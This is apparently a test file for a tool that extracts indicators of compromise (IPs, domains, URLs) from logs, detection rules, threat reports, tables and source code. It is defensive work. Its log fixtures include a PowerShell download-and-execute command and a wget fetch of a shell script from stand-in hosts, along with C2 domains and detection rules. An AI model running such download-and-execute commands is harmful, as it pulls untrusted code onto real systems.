import { assertFound, assertNothingFound } from './findHelpers';

describe('Finding indicators in logs', () => {
  it('reads logs of proxies and web servers', () => {
    assertFound(
      [
        [
          '1733829001.123    342 192.0.2.14 TCP_TUNNEL/200 4821 CONNECT login.a-site.com:443 jdoe HIER_DIRECT/198.51.100.8 -',
          ['ip 192.0.2.14', 'domain login.a-site.com', 'ip 198.51.100.8'],
        ],
        // The first address of a network, which could be a version after the name of a product.
        [
          '1733829001.123 90 192.0.2.14 TCP_MISS/200 1 GET / - HIER_DIRECT/45.60.0.0 -',
          ['ip 192.0.2.14', 'ip 45.60.0.0'],
        ],
        ['192.0.2.14 TCP_MISS/200 1 GET / - FIRSTUP_PARENT/5.188.0.0 -', ['ip 192.0.2.14', 'ip 5.188.0.0']],
        ['192.0.2.14 Chrome/142.0.0.0 SOFTWARE/5.1.0.0 src/5.188.0.0', ['ip 192.0.2.14']],
        [
          '203.0.113.4 - - [10/Dec/2025:06:25:24 +0000] "GET /wp-login.php?redirect_to=https%3A%2F%2Fa-site.com HTTP/1.1" 404 162 "-" "Mozilla/5.0 (Windows NT 10.0; rv:109.0) Gecko/20100101 Firefox/115.0"',
          ['ip 203.0.113.4', 'domain a-site.com'],
        ],
        [
          '2025/12/10 06:25:24 [error] 31#31: *7 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.9, server: www.a-site.com, request: "GET /api/v1.2.3/x HTTP/1.1", upstream: "http://192.0.2.10:8080/api", host: "www.a-site.com"',
          ['ip 203.0.113.9', 'domain www.a-site.com', 'url http://192.0.2.10:8080/api', 'domain www.a-site.com'],
        ],
        [
          '10.1.2.3 - alice [10/Dec/2025:06:25:24 +0000] "GET http://cdn.a-site.net/lib/jquery.min.js HTTP/1.1" 200 89476 TCP_HIT:NONE',
          ['ip 10.1.2.3', 'url http://cdn.a-site.net/lib/jquery.min.js'],
        ],
        [
          '{"ts":1733829001.1,"request":{"remote_ip":"2001:db8::77","host":"a-site.app","uri":"/","headers":{"Referer":["https://b-site.dev/x"]}}}',
          ['ip 2001:db8::77', 'domain a-site.app', 'url https://b-site.dev/x'],
        ],
      ],
      'log',
    );
  });

  it('reads system and firewall logs', () => {
    assertFound(
      [
        ['Dec 10 06:25:24 web01 sshd[4242]: Invalid user admin from 203.0.113.77 port 52144', ['ip 203.0.113.77']],
        [
          'Dec 10 06:25:24 mx1 postfix/smtpd[99]: connect from mail.a-site.org[198.51.100.25]',
          ['domain mail.a-site.org', 'ip 198.51.100.25'],
        ],
        [
          'Dec 10 06:25:24 mx1 postfix/smtp[99]: 4F2A1: to=<ann@b-site.co.uk>, relay=mx.b-site.co.uk[203.0.113.25]:25, delay=0.51, delays=0.02/0/0.3/0.19, dsn=2.0.0, status=sent (250 2.0.0 Ok)',
          ['domain b-site.co.uk', 'domain mx.b-site.co.uk', 'ip 203.0.113.25'],
        ],
        [
          'kernel: [12345.678] IPTABLES-DROP IN=eth0 OUT= MAC=52:54:00:12:34:56:00:1b:21:aa:bb:cc:08:00 SRC=203.0.113.5 DST=192.0.2.1 LEN=40 TTL=244 ID=54321 PROTO=TCP SPT=41234 DPT=23',
          ['ip 203.0.113.5', 'ip 192.0.2.1'],
        ],
        [
          '%ASA-6-302013: Built outbound TCP connection 7 for outside:203.0.113.10/443 (203.0.113.10/443) to inside:10.1.1.5/51000 (192.0.2.5/51000)',
          ['ip 203.0.113.10', 'ip 203.0.113.10', 'ip 10.1.1.5', 'ip 192.0.2.5'],
        ],
        [
          '1,2025/12/10 06:25:24,001801000001,TRAFFIC,end,2305,2025/12/10 06:25:24,10.1.1.5,203.0.113.12,192.0.2.5,203.0.113.12,out,acme\\jdoe,,ssl,vsys1,trust,untrust',
          ['ip 10.1.1.5', 'ip 203.0.113.12', 'ip 192.0.2.5', 'ip 203.0.113.12'],
        ],
        [
          '1,2025/12/10 06:25:24,001801000001,THREAT,url,2305,,10.1.1.5,203.0.113.12,,,out,,,web-browsing,vsys1,,,,,,,1,51000,80,0,0,0x0,tcp,alert,"b-site.top/gate.php?id=1,2",(9999),malware,informational',
          ['ip 10.1.1.5', 'ip 203.0.113.12', 'domain b-site.top'],
        ],
        [
          'date=2025-12-10 time=06:25:24 devname="fw1" srcip=10.1.1.5 dstip=203.0.113.12 hostname="b-site.xyz" url="/a.exe" action="blocked"',
          ['ip 10.1.1.5', 'ip 203.0.113.12', 'domain b-site.xyz'],
        ],
        ['updated agent 2.1.0.5 on 192.0.2.17', ['ip 192.0.2.17']],
        ['collector 7.0.12.1 started, listening on 0.0.0.0:514', ['ip 0.0.0.0']],
        ['resolver 8.8.8.8 answered; forwarders 9.9.9.9 and 1.0.0.1', ['ip 8.8.8.8', 'ip 9.9.9.9', 'ip 1.0.0.1']],
      ],
      'log',
    );
  });

  it('reads logs of name servers, sensors, and events', () => {
    assertFound(
      [
        [
          '10-Dec-2025 06:25:24.123 queries: info: client @0x7f 192.0.2.33#51515 (c2.b-site.top): query: c2.b-site.top IN A +E(0)K (192.0.2.53)',
          ['ip 192.0.2.33', 'domain c2.b-site.top', 'domain c2.b-site.top', 'ip 192.0.2.53'],
        ],
        ['dnsmasq[812]: reply cdn.b-site.net is 203.0.113.50', ['domain cdn.b-site.net', 'ip 203.0.113.50']],
        ['dnsmasq[812]: query[PTR] 50.113.0.203.in-addr.arpa from 192.0.2.33', ['ip 192.0.2.33']],
        [
          '1733829001.12\tCw3\t192.0.2.33\t51515\t192.0.2.53\t53\tudp\t4660\t-\tb-site.live\t1\tC_INTERNET\t1\tA\t0\tNOERROR',
          ['ip 192.0.2.33', 'ip 192.0.2.53', 'domain b-site.live'],
        ],
        [
          '{"timestamp":"2025-12-10T06:25:24.000000+0000","event_type":"alert","src_ip":"192.0.2.33","dest_ip":"203.0.113.50","alert":{"signature":"ET MALWARE Win32.Stealer CnC"},"http":{"hostname":"b-site.click","url":"/gate.php","http_user_agent":"Mozilla/4.0"},"tls":{"sni":"c.b-site.icu"}}',
          ['ip 192.0.2.33', 'ip 203.0.113.50', 'domain b-site.click', 'domain c.b-site.icu'],
        ],
        [
          "<EventData><Data Name='Image'>C:\\Windows\\System32\\svchost.exe</Data><Data Name='DestinationIp'>203.0.113.50</Data><Data Name='DestinationHostname'>static.b-site.info</Data><Data Name='FileVersion'>10.0.19041.1</Data></EventData>",
          ['ip 203.0.113.50', 'domain static.b-site.info'],
        ],
        [
          'CommandLine: powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://b-site.pw/a.ps1\')"',
          ['url http://b-site.pw/a.ps1'],
        ],
        [
          'type=EXECVE msg=audit(1733829001.123:456): argc=3 a0="wget" a1="-q" a2="http://203.0.113.50/x.sh"',
          ['url http://203.0.113.50/x.sh'],
        ],
      ],
      'log',
    );
  });

  it('reads mail headers and mail reports', () => {
    assertFound([
      [
        'Received: from [192.0.2.5] (helo=mail.a-site.com) by mx.b-site.net with esmtps (TLS1.3) tls TLS_AES_256_GCM_SHA384 (Exim 4.96) id 1tL-0001',
        ['ip 192.0.2.5', 'domain mail.a-site.com', 'domain mx.b-site.net'],
      ],
      [
        'Received-SPF: pass (b-site.net: domain of jo@a-site.com designates 192.0.2.5 as permitted sender) client-ip=192.0.2.5;',
        ['domain b-site.net', 'domain a-site.com', 'ip 192.0.2.5', 'ip 192.0.2.5'],
      ],
      [
        'DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=a-site.com; s=sel1; h=from:to:subject; bh=abc=; b=def.ghi',
        ['domain a-site.com'],
      ],
      [
        'Message-ID: <20251210062524.4F2A1@mail.a-site.com>\nX-Originating-IP: [2001:db8::25]\nList-Unsubscribe: <mailto:u@a-site.com>, <https://a-site.com/u?x=1>',
        ['domain mail.a-site.com', 'ip 2001:db8::25', 'domain a-site.com', 'url https://a-site.com/u?x=1'],
      ],
      [
        '<record><row><source_ip>203.0.113.9</source_ip></row><identifiers><header_from>a-site.com</header_from></identifiers><auth_results><dkim><domain>b-site.net</domain></dkim></auth_results></record>',
        ['ip 203.0.113.9', 'domain a-site.com', 'domain b-site.net'],
      ],
    ]);
  });
});

describe('Finding indicators in reports', () => {
  it('reads detection rules', () => {
    assertFound(
      [
        ['    $c2 = "c2.b-site.top" ascii wide nocase', ['domain c2.b-site.top']],
        ['    $u = /https?:\\/\\/b-site\\.net\\/[a-z]{8}/', ['domain b-site.net']],
        [
          'alert http $HOME_NET any -> 203.0.113.50 80 (msg:"MALWARE CnC"; http.host; content:"b-site.net"; sid:2012345; rev:3;)',
          ['ip 203.0.113.50', 'domain b-site.net'],
        ],
      ],
      'yara',
    );
    assertFound(
      [
        [
          "detection:\n  selection:\n    QueryName|endswith:\n      - '.b-site.top'\n      - c2.b-site.net\n    DestinationIp: 203.0.113.50",
          ['domain b-site.top', 'domain c2.b-site.net', 'ip 203.0.113.50'],
        ],
      ],
      'yaml',
    );
  });

  it('reads STIX, hosts files, and lists', () => {
    assertFound(
      [
        [
          '{"type":"indicator","pattern":"[domain-name:value = \'b-site.top\' OR ipv4-addr:value = \'203.0.113.50\' OR url:value = \'http://b-site.net/x?y=1\']","pattern_type":"stix"}',
          ['domain b-site.top', 'ip 203.0.113.50', 'url http://b-site.net/x?y=1'],
        ],
      ],
      'json',
    );
    assertFound([
      [
        '0.0.0.0 ads.b-site.net tracker.b-site.click # blocked',
        ['ip 0.0.0.0', 'domain ads.b-site.net', 'domain tracker.b-site.click'],
      ],
      ['||b-site.top^$third-party\n@@||a-site.com^', ['domain b-site.top', 'domain a-site.com']],
      [
        'address=/b-site.top/0.0.0.0\nserver=/corp.a-site.com/10.0.0.53',
        ['domain b-site.top', 'ip 0.0.0.0', 'domain corp.a-site.com', 'ip 10.0.0.53'],
      ],
      ['b-site.top. 300 IN A 203.0.113.50', ['domain b-site.top', 'ip 203.0.113.50']],
    ]);
  });

  it('reads tickets and chats', () => {
    assertFound([
      ['<https://a-site.com/x|a-site.com> posted by <@U12>', ['url https://a-site.com/x', 'domain a-site.com']],
      [
        'h3. C2\n* {{b-site[.]top}} -> {{203.0.113[.]50}}\n[panel|http://b-site.net/panel/]',
        ['domain b-site.top', 'ip 203.0.113.50', 'url http://b-site.net/panel/'],
      ],
      [
        'Blocked: b-site.top, b-site.shop and b-site.live. Version 4.2.1.7 of the agent is fine.',
        ['domain b-site.top', 'domain b-site.shop', 'domain b-site.live'],
      ],
      [
        'See https://a-site.com/wiki/Some_(thing), then "b-site.org/x".',
        ['url https://a-site.com/wiki/Some_(thing)', 'domain b-site.org'],
      ],
    ]);
  });

  it('reads tables', () => {
    assertFound(
      [
        ['| b-site[.]top | 203.0.113[.]50 | 2025-12-10 |', ['domain b-site.top', 'ip 203.0.113.50']],
        ['| `hxxp://b-site[.]net/a|b` | C2 |', ['url http://b-site.net/a']],
        ['|domain|ip|\n|---|---|\n|c.b-site.space|2001:db8::5|', ['domain c.b-site.space', 'ip 2001:db8::5']],
        ['- **b-site.ru**: _203.0.113.7_', ['domain b-site.ru', 'ip 203.0.113.7']],
      ],
      'markdown',
    );
    assertFound(
      [
        [
          '<tr><td>b-site[.]top</td><td>203.0.113.50</td><td><a href="https://a-site.com/r?a=1&amp;b=2">r</a></td></tr>',
          ['domain b-site.top', 'ip 203.0.113.50', 'url https://a-site.com/r?a=1&b=2'],
        ],
      ],
      'html',
    );
    assertFound(
      [
        [
          'c2,first seen\nb-site.top,2025-12-10\n"http://b-site.net/a,b",2025-12-11\n',
          ['domain b-site.top', 'url http://b-site.net/a,b'],
        ],
      ],
      'csv',
    );
  });

  it('reads text copied from PDF', () => {
    assertFound([
      ['b-site[.]top\u00a0203[.]0[.]113[.]50', ['domain b-site.top', 'ip 203.0.113.50']],
      ['hxxps://b-site[.]net/\nlong/path', ['url https://b-site.net/']],
      ['• b-site [.] top\n• 203 [.] 0 [.] 113 [.] 50', ['domain b-site.top', 'ip 203.0.113.50']],
      ['“b-site[.]top”—a loader', ['domain b-site.top']],
      ['The domain b-site.net.\nThe next sentence', ['domain b-site.net']],
      ['hxxp :// b-site[.]net', ['domain b-site.net']],
    ]);
  });
});

describe('Finding indicators in programming languages and configuration', () => {
  it('recognizes the raw strings of each language', () => {
    assertFound(
      [['var p = @"C:\\tmp\\"; var h = "api.a-site.com"; x.data.org();', ['domain api.a-site.com']]],
      'csharp',
    );
    assertFound([['let s = r#"host "b-site.net" is"#; let c = user.org;', ['domain b-site.net']]], 'rust');
    assertFound([['auto s = R"(one\nb-site.net "\n)"; auto c = user.org;', ['domain b-site.net']]], 'cpp');
    assertFound([['local s = [[\nb-site.net\n]] local c = user.org', ['domain b-site.net']]], 'lua');
  });

  it('ignores file names, intrinsics, and members', () => {
    assertNothingFound(
      ['/* config.h.in.  Generated from configure.ac */', '// llvm.mips.addu.ph', 'Visual Basic.net'],
      'c',
    );
    assertNothingFound(
      ["open_resource('iso3166.tab')", 'require "sys/syscall.ph"', '# mapping from collections.abc to typing'],
      'python',
    );
    assertNothingFound(
      [
        '`keyv.store instanceof Map`',
        'x(pp.name + ".ts")',
        'RAM ${ram.used / ram.total * 100}%',
        '`owner.email` = "x"',
        'Perl 5.26.3.1 on Windows',
      ],
      'markdown',
    );
    assertNothingFound(
      ['image: registry/app:1.2.3.4', 'version = "1.2.3.4"', 'min_version: 2.0.0.1', 'api: org.acme:lib:1.2.3.4'],
      'yaml',
    );
  });
});
